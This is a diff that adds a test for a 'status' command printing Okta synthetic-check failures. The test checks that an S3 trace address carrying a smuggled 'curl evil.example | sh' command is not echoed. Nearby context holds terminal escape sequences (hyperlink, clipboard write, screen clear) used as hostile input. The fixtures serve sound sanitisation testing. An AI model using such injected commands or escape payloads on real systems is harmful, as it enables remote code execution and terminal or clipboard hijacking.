@@ -72,6 +72,28 @@ async function status(
 }
 
 describe('status', () => {
+  it("gives the command that fetches a failure's sanitized HTTP trace, and none for an address not S3's", async () => {
+    const uri = 's3://okta-synthetics-traces-1a2b/har/2026-11-22/2026-11-22T03-09-00-000Z-default-validate.har';
+    const failure = {
+      server: 'default',
+      check: 'validate' as const,
+      code: 'AUDIENCE_MISMATCH' as const,
+      summary: 'The token is for another API.',
+      remedy: 'Set the audience.',
+      requestId: 'XkG3abc',
+    };
+    const printed = async (har: string) =>
+      (
+        await status([], {
+          alarms: new Map(ALARMS.map((name) => [name, 'OK'])),
+          logEvents: () => [{ message: runLine({ failures: [{ ...failure, har }] }), timestamp: Date.now() - 1000 }],
+        })
+      ).out;
+    expect(await printed(uri)).toContain(`    HTTP trace: aws s3 cp ${uri} . --region us-east-1`);
+    // A run line whose trace address could carry a command is not read as one.
+    expect(await printed('s3://bucket/x; curl evil.example | sh')).not.toContain('curl');
+  });
+
   it("prints Okta's words as text: no escape sequence of theirs reaches the terminal", async () => {
     const hostile = `aud \u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007 \u001b]52;c;ZXZpbA==\u0007\u001b[2J`;
     const failures = [
